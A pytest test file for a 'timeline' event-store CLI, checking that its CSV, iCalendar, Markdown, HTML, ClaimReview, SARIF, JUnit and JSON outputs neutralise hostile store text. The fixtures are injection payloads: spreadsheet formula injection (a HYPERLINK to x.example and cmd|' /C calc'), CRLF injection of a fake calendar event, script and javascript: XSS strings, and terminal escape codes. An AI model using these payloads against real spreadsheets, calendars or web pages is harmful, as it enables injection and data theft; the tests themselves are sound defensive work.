"""Exports, reports and machine formats stay what their readers expect whatever
the store holds: each escapes store text for its own format (CSV formulas,
iCalendar lines, Markdown markup, HTML links, the JSON-LD's script element),
only http(s) addresses become links, and JUnit, JSON, JSON Lines, SARIF and
GitLab stay valid XML and UTF-8 with control characters, U+FFFF and file
names that are not UTF-8."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from xml.etree import ElementTree

import icalendar
import jsonschema
import pytest
import xmlschema
from conftest import FIXTURES, REPO
from markdown_it import MarkdownIt


def write_store(folder, text: str) -> None:
    (folder / "data" / "events.yaml").write_text(text, encoding="utf-8")


class Page(HTMLParser):
    """What a browser would make of an HTML page: its elements' tags, the
    addresses of its links, the text of its scripts, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.hrefs: list[str] = []
        self.scripts: list[str] = []
        self.text = ""
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.hrefs += [value for name, value in attrs if name in ("href", "src")]
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text += data


def rendered(markdown: str) -> Page:
    """Markdown as a permissive renderer makes it HTML: raw HTML passed
    through, tables read, and every link's address trusted (markdown-it's
    own check of link schemes turned off, as some renderers have none)."""
    renderer = MarkdownIt("commonmark").enable("table")
    renderer.validateLink = lambda url: True
    return Page(renderer.render(markdown))


# --- CSV --------------------------------------------------------------------


def test_csv_cells_that_start_a_formula_read_as_text(cli, store_dir):
    titles = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
    events = "".join(
        f"  - id: e{number}\n    date: 2013-11-2{number}\n    type: summit\n    title: {json.dumps(title)}\n"
        for number, title in enumerate(titles)
    )
    write_store(store_dir, "events:\n" + events)
    run = cli("export", "--format", "csv", "--output", "events.csv", cwd=store_dir)
    assert (run.exit_code, run.stdout, run.stderr) == (0, "", "")
    text = (store_dir / "events.csv").read_bytes().decode("utf-8")
    assert text.split("\r\n") == [
        "id,date,earliest,latest,type,title,status,countries,actors,place,sources",
        'e0,20 Nov 2013,2013-11-20,2013-11-20,summit,"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",reported,,,,',
        "e1,21 Nov 2013,2013-11-21,2013-11-21,summit,'+cmd|' /C calc'!A0,reported,,,,",
        "e2,22 Nov 2013,2013-11-22,2013-11-22,summit,'-2+3,reported,,,,",
        "e3,23 Nov 2013,2013-11-23,2013-11-23,summit,'@SUM(1+1)*cmd|' /C calc'!A0,reported,,,,",
        "",
    ]
    # A spreadsheet's reader sees each title as text: the quote, then the title as written.
    assert [row[5] for row in csv.reader(io.StringIO(text, newline=""))][1:] == [f"'{title}" for title in titles]


# --- iCalendar --------------------------------------------------------------

# An id whose line breaks (CRLF, a lone CR, lone LFs) would end the UID line and write a second event.
INJECTED_ID = (
    "summit\\r\\nEND:VEVENT\\rBEGIN:VEVENT\\nUID:fake\\nDTSTAMP:20130101T000000Z\\nDTSTART;VALUE=DATE:20130101\\n"
    "SUMMARY:FAKE EVENT\\nEND:VEVENT\\nBEGIN:VEVENT\\nUID:x"
)


def test_ics_line_breaks_in_an_id_cannot_start_another_event(cli, store_dir):
    write_store(
        store_dir,
        f'events:\n  - id: "{INJECTED_ID}"\n    date: 2013-11-20\n    type: "summit;\\\\"\n'
        '    title: "Piura, Peru; a\\x07bell\\r\\nand \\\\N no break"\n',
    )
    (store_dir / ".timeline.yaml").write_text("name: Watch\n", encoding="utf-8")
    # Into a file: the runner's stdout would turn the CRLF line ends into LF ones.
    run = cli("export", "--format", "ics", "--output", "out.ics", cwd=store_dir, env={"SOURCE_DATE_EPOCH": "0"})
    assert (run.exit_code, run.stdout, run.stderr) == (0, "", "")
    text = (store_dir / "out.ics").read_bytes().decode("utf-8")
    assert text.split("\r\n") == [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//timeline//timeline store//EN",
        "CALSCALE:GREGORIAN",
        "BEGIN:VEVENT",
        "UID:summit\\nEND:VEVENT\\nBEGIN:VEVENT\\nUID:fake\\nDTSTAMP:20130101T000000Z\\nD",
        " TSTART\\;VALUE=DATE:20130101\\nSUMMARY:FAKE EVENT\\nEND:VEVENT\\nBEGIN:VEVENT\\",
        " nUID:x@watch.timeline",
        "DTSTAMP:19700101T000000Z",
        "DTSTART;VALUE=DATE:20131120",
        "DTEND;VALUE=DATE:20131121",
        # RFC 5545's escapes for "," ";" "\" and the line break; the bell, which TEXT can't hold, shown as U+FFFD.
        "SUMMARY:Piura\\, Peru\\; a\ufffdbell\\nand \\\\N no break",
        "DESCRIPTION:20 Nov 2013 (summit\\;\\\\\\, reported)",
        "END:VEVENT",
        "END:VCALENDAR",
        "",
    ]
    (event,) = icalendar.Calendar.from_ical(text).walk("VEVENT")
    assert str(event["UID"]) == (
        "summit\nEND:VEVENT\nBEGIN:VEVENT\nUID:fake\nDTSTAMP:20130101T000000Z\nDTSTART;VALUE=DATE:20130101\n"
        "SUMMARY:FAKE EVENT\nEND:VEVENT\nBEGIN:VEVENT\nUID:x@watch.timeline"
    )
    assert str(event["SUMMARY"]) == "Piura, Peru; a\ufffdbell\nand \\N no break"
    assert str(event["DESCRIPTION"]) == "20 Nov 2013 (summit;\\, reported)"


# --- Markdown export --------------------------------------------------------

HOSTILE_TITLE = 'Summit\\n# Injected heading\\n<script>alert(1)</script> [click](javascript:alert(2)) *bold* & \\x1b[31mred #'


def test_markdown_export_shows_markup_in_a_title_as_text(cli, store_dir):
    write_store(
        store_dir,
        f'events:\n  - id: "summit`s | <b>"\n    date: 2013-11-20\n    type: summit\n    title: "{HOSTILE_TITLE}"\n'
        '    countries: ["P<E"]\n    sources: [{source: "w_i_r_e"}]\n',
    )
    run = cli("export", "--format", "markdown", cwd=store_dir)
    assert (run.exit_code, run.stderr) == (0, "")
    assert run.lines == [
        "| When | Event | Countries | Sources |",
        "| --- | --- | --- | --- |",
        (
            "| 20 Nov 2013 | Summit<br>\\# Injected heading<br>&lt;script>alert(1)&lt;/script> \\[click\\](javascript:alert(2)) "
            "\\*bold\\* &amp; \ufffd\\[31mred \\# (``summit`s \\| <b>``) | P&lt;E | w\\_i\\_r\\_e |"
        ),
    ]
    page = rendered(run.stdout)
    assert page.tags == ["table", "thead", "tr", "th", "th", "th", "th", "tbody", "tr", "td", "td", "br", "br", "code", "td", "td"]
    assert (page.hrefs, page.scripts) == ([], [])
    # The title reads as written, its line breaks as <br>s; the id, in code, too.
    assert "\nSummit# Injected heading<script>alert(1)</script> [click](javascript:alert(2)) *bold* & \ufffd[31mred # (summit`s | <b>)\n" in page.text


# --- The report -------------------------------------------------------------

REPORT_STORE = (
    "events:\n"
    f'  - id: "summit`"\n    date: 2013-11-20\n    type: summit\n    title: "{HOSTILE_TITLE}"\n'
    "    sources:\n"
    '      - {source: script, quote: "said\\n## Also injected\\n<img src=x onerror=alert(3)>"}\n'
    '      - {source: linked, says: "the *same* \\x1b]8;;javascript:alert(4)\\x1b\\\\"}\n'
    "      - {source: fine}\n"
    "sources:\n"
    '  - id: script\n    title: "A </script><script>alert(1)</script>\\n# Heading"\n    url: "javascript:alert(1)"\n'
    '  - id: linked\n    title: "B [x](javascript:alert(2))"\n    author: "<i>Someone</i>"\n    url: "JavaScript:alert(5)"\n'
    '  - id: fine\n    title: Fine\n    url: "https://news.example/a b/<script>?q=1&r=</script>"\n'
)


# The event's title as its heading: on one line, its "#"s, brackets, "*"s, "<" and "&" escaped, the ESC shown as U+FFFD.
HEADING = (
    "### Summit\\n\\# Injected heading\\n&lt;script>alert(1)&lt;/script> \\[click\\](javascript:alert(2)) \\*bold\\* &amp; "
    "\ufffd\\[31mred \\#"
)


def test_the_report_shows_markup_in_store_text_as_text(cli, store_dir):
    write_store(store_dir, REPORT_STORE)
    run = cli("report", cwd=store_dir)
    assert (run.exit_code, run.stderr) == (0, "")
    assert run.lines == [
        "# Fact-check report",
        "",
        "1 claims: 0 contradicted, 1 consistent (two or more sources, nothing contradicts them), 0 unverifiable (one source). "
        "4 findings about the store's own transcription to fix.",
        "",
        "## Consistent",
        "",
        HEADING,
        "",
        # A code span padded, so that its fence can't be read as the id's own backtick.
        "`` summit` ``, 20 Nov 2013. Verdict: **consistent**.",
        "",
        "Evidence:",
        "",
        # Addresses that are not http(s) shown in code, never as links.
        (
            "- *A &lt;/script>&lt;script>alert(1)&lt;/script>\\n\\# Heading* (undated) `javascript:alert(1)`: "
            "“said\\n\\#\\# Also injected\\n&lt;img src=x onerror=alert(3)>”"
        ),
        (
            "- *B \\[x\\](javascript:alert(2))* (&lt;i>Someone&lt;/i>, undated) `JavaScript:alert(5)`: "
            "the \\*same\\* \ufffd\\]8;;javascript:alert(4)\ufffd\\\\"
        ),
        # An http(s) one a link, what an autolink can't hold percent-encoded.
        "- *Fine* (undated) <https://news.example/a%20b/%3Cscript%3E?q=1&r=%3C/script%3E>",
        "",
        "## Fix the store",
        "",
        "Our own transcription, not the article's claims: none of these decides a verdict.",
        "",
        # The id's backtick escaped in the message, as every store string is.
        '- `data/events.yaml:2` schema: "summit\\`" is not an id: ids are lowercase words joined by hyphens, like "summit"',
        '- `data/events.yaml:11` schema: source "script" has no "published" (required)',
        '- `data/events.yaml:14` schema: source "linked" has no "published" (required)',
        '- `data/events.yaml:18` schema: source "fine" has no "published" (required)',
    ]
    # No line of the report but its own headings starts one.
    assert [line for line in run.lines if line.startswith("#")] == ["# Fact-check report", "## Consistent", HEADING, "## Fix the store"]
    assert "\x1b" not in run.stdout
    page = rendered(run.stdout)
    assert page.hrefs == ["https://news.example/a%20b/%3Cscript%3E?q=1&r=%3C/script%3E"]
    assert page.scripts == []
    assert "img" not in page.tags and page.tags.count("h3") == 1 and "h2" in page.tags


def test_claimreview_cannot_close_the_script_element_it_is_embedded_in(cli, store_dir):
    write_store(store_dir, REPORT_STORE)
    run = cli("report", "--format", "claimreview", "--by", "Desk </script><b>", cwd=store_dir)
    assert (run.exit_code, run.stderr) == (0, "")
    assert "</script" not in run.stdout.lower() and "<" not in run.stdout and "&" not in run.stdout
    page = Page(f'<html><head><script type="application/ld+json">\n{run.stdout}</script></head><body>after</body></html>')
    (embedded,) = page.scripts
    assert (page.tags, page.text) == (["html", "head", "script", "body"], "after")
    (review,) = json.loads(embedded)
    # The claim in its source's quoted words, markup and all, as text.
    assert review["claimReviewed"] == "said\n## Also injected\n<img src=x onerror=alert(3)>"
    assert review["author"] == {"@type": "Organization", "name": "Desk </script><b>"}
    # Only the http(s) address is given as the work's url.
    assert review["itemReviewed"]["appearance"] == [
        {"@type": "CreativeWork", "headline": "A </script><script>alert(1)</script>\n# Heading"},
        {"@type": "CreativeWork", "headline": "B [x](javascript:alert(2))", "author": {"@type": "Person", "name": "<i>Someone</i>"}},
        {"@type": "CreativeWork", "headline": "Fine", "url": "https://news.example/a b/<script>?q=1&r=</script>"},
    ]


def test_the_html_export_shows_a_hostile_title_as_text(cli, store_dir):
    write_store(store_dir, REPORT_STORE)
    run = cli("export", "--format", "html", cwd=store_dir)
    assert (run.exit_code, run.stderr) == (0, "")
    page = Page(run.stdout)
    # Links only to the page itself and to http(s) addresses; no script but the page's own three
    # (its data, vis-timeline, its code), none of them the store's.
    assert page.hrefs == ["#events", "https://news.example/a b/<script>?q=1&r=</script>"]
    assert len(page.scripts) == 3 and not any(f"alert({n})" in script for script in page.scripts[1:] for n in range(1, 6))
    assert "<script>alert(1)</script> [click](javascript:alert(2))" in page.text


# --- Machine formats: valid XML, valid UTF-8 ---------------------------------

# A file name with a byte that is not UTF-8 (0xff), a control character and U+FFFF.
HOSTILE_NAME = b"bad\xff\x01name\xef\xbf\xbf.yaml"
SHOWN_NAME = "data/bad\ufffd\x01name\uffff.yaml"
# An actor id with U+FFFF, a control character and U+FFFE: the schema finding quotes it.
HOSTILE_EVENTS = b'events:\n  - id: e\n    date: 2013-02-03\n    type: summit\n    title: t\n    actors: [{entity: "a\\uffffb\\x01c\\ufffe", role: agent}]\n'
SCHEMA_MESSAGE = 'is not an id: ids are lowercase words joined by hyphens, like "a-b-c"'
MISSING_SOURCE = "e cites no source: add the report that says it happened"


def check(folder, output_format: str) -> tuple[int, str, str]:
    """``timeline check --format`` in ``folder``, run as CI runs it; its output
    decoded strictly as UTF-8 (a surrogate written out would be a byte that isn't)."""
    done = subprocess.run(
        [sys.executable, "-m", "timeline", "check", "--format", output_format],
        cwd=folder,
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "utf-8:surrogateescape", "PYTHONPATH": str(REPO)},
        check=False,
    )
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")


def hostile_project(store_dir):
    with open(os.path.join(os.fsencode(store_dir / "data"), HOSTILE_NAME), "wb") as file:
        file.write(HOSTILE_EVENTS)
    return store_dir


def test_json_is_valid_utf8_with_a_file_name_that_is_not(store_dir):
    code, stdout, stderr = check(hostile_project(store_dir), "json")
    assert (code, stderr) == (1, "")
    document = json.loads(stdout)
    assert [(finding["file"], finding["rule"], finding["message"]) for finding in document["findings"]] == [
        (SHOWN_NAME, "missing-source", MISSING_SOURCE),
        (SHOWN_NAME, "schema", f'"a\uffffb\x01c\ufffe" {SCHEMA_MESSAGE}'),
    ]


def test_json_lines_is_valid_utf8_with_a_file_name_that_is_not(store_dir):
    code, stdout, stderr = check(hostile_project(store_dir), "json-lines")
    assert (code, stderr) == (1, "")
    assert [(json.loads(line)["file"], json.loads(line)["rule"]) for line in stdout.splitlines()] == [
        (SHOWN_NAME, "missing-source"),
        (SHOWN_NAME, "schema"),
    ]


def test_sarif_keeps_the_names_bytes_in_its_uri(store_dir):
    code, stdout, stderr = check(hostile_project(store_dir), "sarif")
    assert (code, stderr) == (1, "")
    document = json.loads(stdout)
    jsonschema.validate(document, json.loads((FIXTURES / "sarif-2.1.0.json").read_text(encoding="utf-8")), cls=jsonschema.Draft4Validator)
    results = document["runs"][0]["results"]
    assert [
        (result["ruleId"], result["locations"][0]["physicalLocation"]["artifactLocation"], result["message"]["text"])
        for result in results
    ] == [
        ("missing-source", {"uri": "data/bad%FF%01name%EF%BF%BF.yaml", "uriBaseId": "SRCROOT"}, MISSING_SOURCE),
        ("schema", {"uri": "data/bad%FF%01name%EF%BF%BF.yaml", "uriBaseId": "SRCROOT"}, f'"a\uffffb\x01c\ufffe" {SCHEMA_MESSAGE}'),
    ]
    assert len({result["partialFingerprints"]["timeline/v1"] for result in results}) == 2


def test_gitlab_is_valid_utf8_with_a_file_name_that_is_not(store_dir):
    code, stdout, stderr = check(hostile_project(store_dir), "gitlab")
    assert (code, stderr) == (1, "")
    assert [(issue["location"]["path"], issue["check_name"]) for issue in json.loads(stdout)] == [
        (SHOWN_NAME, "missing-source"),
        (SHOWN_NAME, "schema"),
    ]


def test_junit_is_valid_xml_with_characters_xml_cannot_carry(store_dir):
    code, stdout, stderr = check(hostile_project(store_dir), "junit")
    assert (code, stderr) == (1, "")
    assert xmlschema.XMLSchema(str(FIXTURES / "junit-10.xsd")).validate(stdout) is None
    cases = ElementTree.fromstring(stdout).findall("testsuite/testcase")
    # The control characters, U+FFFE, U+FFFF and the byte that is not UTF-8 are all shown as U+FFFD.
    shown = "data/bad\ufffd\ufffdname\ufffd.yaml"
    assert [(case.attrib, [(child.tag, child.attrib, child.text) for child in case]) for case in cases] == [
        (
            {"classname": "data.bad\ufffd\ufffdname\ufffd_yaml", "name": "missing-source events/e"},
            [("system-out", {}, f"{shown}:2:5: warning missing-source {MISSING_SOURCE}")],
        ),
        (
            {"classname": "data.bad\ufffd\ufffdname\ufffd_yaml", "name": "schema events/e actors[0].entity"},
            [
                (
                    "failure",
                    {"message": f'"a\ufffdb\ufffdc\ufffd" {SCHEMA_MESSAGE}', "type": "error"},
                    f'{shown}:6:23: error schema "a\ufffdb\ufffdc\ufffd" {SCHEMA_MESSAGE}',
                )
            ],
        ),
    ]


def test_the_text_formats_show_a_file_names_bytes_that_are_not_utf8_as_replacement_characters(store_dir):
    hostile_project(store_dir)
    # The control character shown as U+FFFD too, as on a terminal; U+FFFF is a character a terminal shows.
    shown = "data/bad\ufffd\ufffdname\uffff.yaml"
    code, stdout, stderr = check(store_dir, "concise")
    assert (code, stderr) == (1, "")
    assert stdout.splitlines() == [
        f"{shown}:2:5: warning missing-source {MISSING_SOURCE}",
        f'{shown}:6:23: error schema "a\uffffb\ufffdc\ufffe" {SCHEMA_MESSAGE}',
        "1 error, 1 warning, 0 info in 1 file, 1 event",
    ]
    code, stdout, stderr = check(store_dir, "full")
    assert (code, stderr) == (1, "")
    assert [line for line in stdout.splitlines() if line.startswith("data/")] == [
        f"{shown}:2:5: warning missing-source {MISSING_SOURCE}",
        f'{shown}:6:23: error schema "a\uffffb\ufffdc\ufffe" {SCHEMA_MESSAGE}',
    ]
    code, stdout, stderr = check(store_dir, "github")
    assert (code, stderr) == (1, "")
    assert stdout.splitlines() == [
        f'::error file={shown},line=6,col=23,endLine=6,endColumn=44,title=schema::"a\uffffb\ufffdc\ufffe" {SCHEMA_MESSAGE}',
        f"::warning file={shown},line=2,endLine=7,title=missing-source::{MISSING_SOURCE}",
        "timeline: 1 error, 1 warning, 0 info in 1 file, 1 event",
    ]


# A title with a C1 CSI (U+009B), DEL, a right-to-left override and a line separator, all of which
# JSON may hold raw; and an actor id with them, which the schema finding quotes.
TERMINAL_ACTIVE = "a\x9b31mb\x7fc\u202ed\u2028e"
TERMINAL_STORE = (
    f"events:\n  - id: summit\n    date: 2013-11-20\n    type: summit\n    title: {json.dumps(TERMINAL_ACTIVE)}\n"
    f"    actors: [{{entity: {json.dumps(TERMINAL_ACTIVE)}, role: agent}}]\n"
    "    sources: [{source: wire}]\nsources:\n  - {id: wire, title: Wire}\n"
)


@pytest.mark.parametrize(
    "args, read_back",
    [
        (("export", "--format", "json"), lambda document: document["events"][0]["title"]),
        (("export", "--format", "timelinejs"), lambda document: document["events"][0]["text"]["headline"]),
        (("report", "--format", "claimreview"), lambda document: document[0]["claimReviewed"]),
        (("check", "--format", "json", "--select", "schema"), lambda document: document["findings"][0]["message"].split('"')[1]),
    ],
    ids=["export-json", "export-timelinejs", "claimreview", "check-json"],
)
def test_json_writes_characters_a_terminal_acts_on_as_escapes(cli, store_dir, args, read_back):
    write_store(store_dir, TERMINAL_STORE)
    run = cli(*args, cwd=store_dir)
    assert run.exit_code == (1 if args[0] == "check" else 0)
    assert run.stderr == ""
    assert '"a\\u009b31mb\\u007fc\\u202ed\\u2028e' in run.stdout
    assert [char for char in run.stdout if char in "\x9b\x7f\u202e\u2028"] == []
    assert read_back(json.loads(run.stdout)) == TERMINAL_ACTIVE


def test_csv_cells_carry_no_control_character(cli, store_dir):
    (store_dir / "data" / "x.yaml").write_text(
        'events:\n  - id: a\n    title: t\n    type: "summit\\x9b"\n    date: 2013\n    place: "p\\x1b[2J"\n'
        '    sources:\n      - source: "s\\a"\n',
        encoding="utf-8",
    )
    rows = cli("export", "--format", "csv", cwd=store_dir).stdout.splitlines()
    assert rows[1] == "a,2013,2013-01-01,2013-12-31,summit\ufffd,t,reported,,,p\ufffd[2J,s\ufffd"


def test_timelinejs_takes_a_country_with_no_name(cli, store_dir):
    (store_dir / "data" / "x.yaml").write_text(
        "entities:\n  - id: peru\n    name: []\n    kind: country\n    country: PE\n"
        "events:\n  - id: a\n    title: t\n    type: meeting\n    date: 2013-11-14\n    countries: [PE]\n",
        encoding="utf-8",
    )
    run = cli("export", "--format", "timelinejs", cwd=store_dir)
    assert run.exit_code == 0
    assert json.loads(run.stdout)["events"][0]["group"] == "PE"
